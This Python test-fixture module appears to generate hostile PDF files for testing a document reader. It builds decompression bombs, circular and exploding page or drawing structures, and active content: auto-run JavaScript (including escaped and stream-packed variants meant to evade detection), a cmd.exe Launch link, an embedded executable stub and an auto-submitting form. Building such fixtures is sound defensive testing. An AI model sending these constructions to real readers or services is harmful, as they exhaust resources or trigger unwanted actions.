"""Pdf files built to harm, written object by object."""

import io
import zlib

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

from tests.review.reading.raw_zip import packed_megabytes

_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_WORDS = b"BT /F1 12 Tf 72 700 Td (County measures on parking) Tj ET"


def raw_pdf(objects: list[bytes], catalog: bytes = b"", trailer: bytes = b"") -> bytes:
    """Return a file: the catalogue is the first object, the given ones follow from the second."""
    first = b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>"
    content, places = b"%PDF-1.7\n", []
    for number, each in enumerate([first, *objects], start=1):
        places.append(len(content))
        content += b"%d 0 obj\n" % number + each + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    ending = b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (len(places) + 1, trailer)
    return content + head + table + ending + b"startxref\n%d\n%%%%EOF\n" % len(content)


def stream(content: bytes, extra: bytes = b"") -> bytes:
    """Return a stream object."""
    return b"<< /Length %d %s >>\nstream\n" % (len(content), extra) + content + b"\nendstream"


def page_pdf(
    content: bytes = b"",
    *more: bytes,
    box: bytes = b"[0 0 595 842]",
    page: bytes = b"",
    catalog: bytes = b"",
    trailer: bytes = b"",
) -> bytes:
    """Return a file of one page; further objects begin with the sixth."""
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    sheet = b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents 4 0 R " % box
    sheet += b"/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> " + page + b" >>"
    objects = [pages, sheet, content or stream(_WORDS), _FONT, *more]
    return raw_pdf(objects, catalog, trailer)


def _zlib_gigabyte() -> bytes:
    return b"\x78\x9c" + packed_megabytes(1024, b" ")


def bomb_of_a_megabyte() -> bytes:
    return page_pdf(stream(_zlib_gigabyte(), b"/Filter /FlateDecode"))


def bomb_of_two_kilobytes() -> bytes:
    twice = zlib.compress(_zlib_gigabyte(), 9)
    return page_pdf(stream(twice, b"/Filter [/FlateDecode /FlateDecode]"))


def picture_bomb() -> bytes:
    picture = stream(
        _zlib_gigabyte(),
        b"/Type /XObject /Subtype /Image /Width 32768 /Height 32768 /BitsPerComponent 8 "
        b"/ColorSpace /DeviceGray /Filter /FlateDecode",
    )
    return page_pdf(stream(b"q 500 0 0 500 0 0 cm /X Do Q"), picture)


def object_stream_bomb() -> bytes:
    bomb = stream(_zlib_gigabyte(), b"/Type /ObjStm /N 9999 /First 90000 /Filter /FlateDecode")
    return page_pdf(b"", bomb)


def huge_page() -> bytes:
    return page_pdf(box=b"[-2147483648 -2147483648 2147483647 2147483647]")


def a_million_characters() -> bytes:
    line = b"(" + b"a" * 100 + b") Tj 0 -1 Td "
    return page_pdf(stream(b"BT /F1 1 Tf 10 800 Td " + line * 10_000 + b"ET"))


def pages_in_a_loop() -> bytes:
    return raw_pdf([b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 4 >>"])


def pages_that_multiply() -> bytes:
    levels = [
        b"<< /Type /Pages /Kids [%s] /Count 1000000000 >>" % (b"%d 0 R " % (number + 1) * 10)
        for number in range(2, 12)
    ]
    return raw_pdf([*levels, b"<< /Type /Page /MediaBox [0 0 9 9] >>"])


def too_many_pages() -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 5003))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    return raw_pdf([b"<< /Type /Pages /Kids [%s] /Count 5000 >>" % kids, *[page] * 5000])


def pages_that_are_not_there() -> bytes:
    return raw_pdf([b"<< /Type /Pages /Kids [3 0 R] /Count 1999 >>"])


def table_in_a_loop() -> bytes:
    content = page_pdf()
    return page_pdf(trailer=b"/Prev %d" % content.rindex(b"xref\n0"))


def drawing_in_itself() -> bytes:
    form = stream(
        b"/X Do " * 30,
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>",
    )
    return page_pdf(stream(b"/X Do"), form)


def drawings_that_multiply() -> bytes:
    forms = [
        stream(
            b"/X Do " * 20,
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] "
            b"/Resources << /XObject << /X %d 0 R >> >>" % (number + 1),
        )
        for number in range(6, 14)
    ]
    words = stream(_WORDS, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    return page_pdf(stream(b"/X Do"), *forms, words)


def arrays_in_arrays() -> bytes:
    return page_pdf(page=b"/A " + b"[" * 100_000 + b"]" * 100_000)


def content_of_open_brackets() -> bytes:
    return page_pdf(stream(b"[" * 3_000_000))


def content_of_saved_states() -> bytes:
    return page_pdf(stream(b"q " * 2_000_000))


def length_in_itself() -> bytes:
    return page_pdf(b"<< /Length 4 0 R >>\nstream\n" + _WORDS + b"\nendstream")


def with_script() -> bytes:
    return page_pdf(
        b"", b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", catalog=b"/OpenAction 6 0 R"
    )


def with_hidden_script() -> bytes:
    # The same name written with an escape.
    action = b"<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>"
    return page_pdf(b"", action, page=b"/AA << /O 6 0 R >>")


def with_packed_script() -> bytes:
    inside = zlib.compress(b"9 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>")
    objects = stream(inside, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    return page_pdf(b"", objects)


def with_start_of_a_program() -> bytes:
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>"
    return page_pdf(b"", link, page=b"/Annots [6 0 R]")


def with_file_inside() -> bytes:
    named = b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>"
    file = b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>"
    return page_pdf(b"", file, stream(b"MZ", b"/Type /EmbeddedFile"), catalog=named)


def with_form_that_sends() -> bytes:
    return page_pdf(catalog=b"/OpenAction << /S /SubmitForm /F (http://192.0.2.1/) >>")


def with_honest_opening() -> bytes:
    return page_pdf(catalog=b"/OpenAction [3 0 R /Fit] /PageMode /UseOutlines")


def locked_pdf() -> bytes:
    buffer = io.BytesIO()
    page = Canvas(buffer, encrypt=StandardEncryption("secret", canPrint=0))
    page.drawString(100, 100, "locked")
    page.save()
    return buffer.getvalue()


def only_a_head() -> bytes:
    return b"%PDF-1.7\nnothing follows"


HOSTILE_PDF = (
    bomb_of_a_megabyte,
    bomb_of_two_kilobytes,
    picture_bomb,
    object_stream_bomb,
    huge_page,
    a_million_characters,
    pages_in_a_loop,
    pages_that_multiply,
    pages_that_are_not_there,
    table_in_a_loop,
    drawing_in_itself,
    drawings_that_multiply,
    arrays_in_arrays,
    content_of_open_brackets,
    content_of_saved_states,
    length_in_itself,
)
ACTIVE_PDF = (
    with_script,
    with_hidden_script,
    with_packed_script,
    with_start_of_a_program,
    with_file_inside,
    with_form_that_sends,
)
